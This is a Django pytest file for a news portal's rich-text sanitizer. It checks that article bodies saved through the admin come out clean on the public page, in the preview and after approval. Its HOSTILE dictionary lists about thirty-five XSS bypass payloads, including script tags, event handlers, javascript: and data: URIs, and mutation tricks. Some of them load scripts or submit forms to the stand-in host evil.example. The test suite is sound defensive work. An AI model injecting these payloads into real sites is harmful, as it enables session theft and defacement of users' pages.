"""Hostile bodies saved through the admin never reach a page: not the public article, not
the admin's preview of a pending change, not the search snippet."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from portal.core.richtext import sanitize_html
from portal.editorial import services as wf
from portal.editorial.enums import Action
from tests import factories

HOSTILE = {
    "script": '<p>Tin</p><script>alert("xss")</script>',
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Tin</p>",
    "onerror": '<img src="/media/a.jpg" onerror="alert(1)" alt="a">',
    "onload_body": '<body onload="alert(1)"><p>Tin</p></body>',
    "onmouseover": '<p onmouseover="alert(1)">Tin</p>',
    "javascript_link": '<a href="javascript:alert(1)">bấm</a>',
    "javascript_entity": '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
    "javascript_upper": '<a href=" JaVaScRiPt:alert(1)">bấm</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">bấm</a>',
    "data_link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    "data_img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
    "svg_script": '<svg><script>alert(1)</script><circle r="5"/></svg>',
    "svg_onload": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "iframe": '<iframe src="https://evil.example/"></iframe><p>Tin</p>',
    "object": '<object data="evil.swf"></object><embed src="evil.swf">',
    "style_attr": '<p style="background:url(javascript:alert(1))">Tin</p>',
    "style_tag": "<style>body{background:url(javascript:alert(1))}</style><p>Tin</p>",
    "nested_script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "nested_tag": '<<img src=x onerror=alert(1)>img src="x" onerror="alert(1)">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--<img src=x onerror=alert(1)>--><p>Tin</p>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><p>Tin</p>",
    "form": '<form action="https://evil.example/"><input name="p"><button>Gửi</button></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link_css": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "srcset_elsewhere": '<img src="/media/a.jpg" srcset="https://evil.example/a.jpg 1x, /media/b.jpg 2x" alt="a">',
    "srcset_protocol_relative": '<img src="/media/a.jpg" srcset="//evil.example/a.jpg 2x" alt="a">',
    "srcset_javascript": '<img src="/media/a.jpg" srcset="javascript:alert(1) 1x" alt="a">',
    "src_backslash": '<img src="/\\evil.example/a.jpg" alt="a">',
    "src_tab_trick": '<img src="/&#9;/evil.example/a.jpg" alt="a">',
    "srcset_newline_trick": '<img src="/media/a.jpg" srcset="/&#10;/evil.example/a.jpg 2x" alt="a">',
    "src_protocol_relative": '<img src="//evil.example/a.jpg" alt="a">',
    "figure_class": '<figure class="image x-evil" onclick="alert(1)"><img src="/media/a.jpg" alt="a"></figure>',
    "target_blank": '<a href="https://mic.gov.vn" target="_blank" onclick="alert(1)">Bộ</a>',
}

ALLOWED_TAGS = {
    "p", "br", "h2", "h3", "h4", "strong", "b", "em", "i", "u", "s", "sub", "sup", "ul", "ol", "li",
    "blockquote", "a", "figure", "figcaption", "img", "table", "thead", "tbody", "tfoot", "tr", "th",
    "td", "caption", "hr", "span",
}  # fmt: skip
SAFE_URL = re.compile(r"^(https?://|mailto:|/(?![/\\])|#)", re.I)


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_clean(fragment: str, case: str) -> None:
    """What a browser would build from ``fragment`` has no way to run script or to load
    anything from elsewhere (checked on the parsed elements, not on escaped text)."""
    assert not re.search(r"<\s*/?\s*script", fragment, re.I), f"{case}: script tag in {fragment!r}"
    parser = _Elements()
    parser.feed(fragment)
    for tag, attrs in parser.found:
        assert tag in ALLOWED_TAGS, f"{case}: <{tag}> in {fragment!r}"
        for name, value in attrs.items():
            value = (value or "").strip()
            assert not name.startswith("on"), f"{case}: {name}= in {fragment!r}"
            assert name != "style", f"{case}: style= in {fragment!r}"
            assert "evil" not in value, f"{case}: {name}={value!r} points elsewhere"
            if name in ("href", "src"):
                assert SAFE_URL.match(value), f"{case}: {name}={value!r}"
            if name == "srcset":
                for candidate in value.split(","):
                    assert candidate.strip().startswith("/media/"), f"{case}: srcset {value!r}"


def body_of(html: str) -> str:
    return html.split('<div class="article-body">', 1)[1].split("</div>", 1)[0]


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_body_saved_through_admin_never_reaches_the_page(client, reporter, board, case):
    item = factories.article(author=reporter, body="<p>An toàn.</p>")
    client.force_login(reporter)
    body = f"<p>Đoạn mở đầu.</p>{HOSTILE[case]}<p>Đoạn kết.</p>"
    response = client.post(
        reverse("admin:news_article_change", args=[item.pk]), factories.article_form_data(item, body=body)
    )
    assert response.status_code == 302
    item.refresh_from_db()
    assert_clean(item.body, case)
    assert "Đoạn mở đầu." in item.body and "Đoạn kết." in item.body

    wf.transition(item=item, action=Action.SUBMIT, user=reporter)
    wf.transition(item=item, action=Action.PUBLISH, user=board)
    client.logout()
    page = client.get(item.get_absolute_url())
    assert page.status_code == 200
    assert_clean(body_of(page.content.decode()), case)


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_change_to_a_live_article_is_clean_in_preview_and_after_approval(client, reporter, board, board2, case):
    item = factories.published_article(author=reporter, approver=board2)
    client.force_login(board)
    body = f"<p>Bản sửa.</p>{HOSTILE[case]}"
    response = client.post(
        reverse("admin:news_article_change", args=[item.pk]), factories.article_form_data(item, body=body)
    )
    assert response.status_code == 302
    # The pending change is kept as a revision: already clean.
    assert_clean(wf.latest_draft_revision(item).data["body"], case)
    preview = client.get(reverse("admin:news_article_preview", args=[item.pk])).content.decode()
    assert "Bản sửa." in preview
    assert_clean(body_of(preview), case)

    wf.transition(item=item, action=Action.SUBMIT, user=board)
    client.force_login(board2)
    client.post(reverse("admin:news_article_transition", args=[item.pk, "publish"]), factories.shown(item))
    client.logout()
    page = client.get(item.get_absolute_url()).content.decode()
    assert "Bản sửa." in page
    assert_clean(body_of(page), case)


def test_news_markup_survives():
    html = (
        "<h2>Tiêu đề</h2><p><strong>Đậm</strong> <em>nghiêng</em> "
        '<a href="https://mic.gov.vn/">Bộ TT&amp;TT</a></p>'
        "<ul><li>Một</li></ul><ol><li>Hai</li></ol><blockquote><p>Trích</p></blockquote>"
        '<figure class="image"><img src="/media/images/a.jpg" alt="Ảnh hội nghị" '
        'srcset="/media/r/a-480.jpg 480w, /media/r/a-800.jpg 800w"><figcaption>Chú thích</figcaption></figure>'
        '<figure class="table"><table><thead><tr><th scope="col">Chỉ tiêu</th></tr></thead>'
        "<tbody><tr><td>2.611.948</td></tr></tbody></table></figure>"
    )
    clean = sanitize_html(html)
    for kept in (
        "<h2>Tiêu đề</h2>",
        "<strong>Đậm</strong>",
        "<em>nghiêng</em>",
        'href="https://mic.gov.vn/"',
        "<ul><li>Một</li></ul>",
        "<blockquote>",
        '<figure class="image">',
        'alt="Ảnh hội nghị"',
        'srcset="/media/r/a-480.jpg 480w, /media/r/a-800.jpg 800w"',
        "<figcaption>Chú thích</figcaption>",
        '<th scope="col">Chỉ tiêu</th>',
        "<td>2.611.948</td>",
    ):
        assert kept in clean
    assert 'rel="noopener noreferrer"' in clean
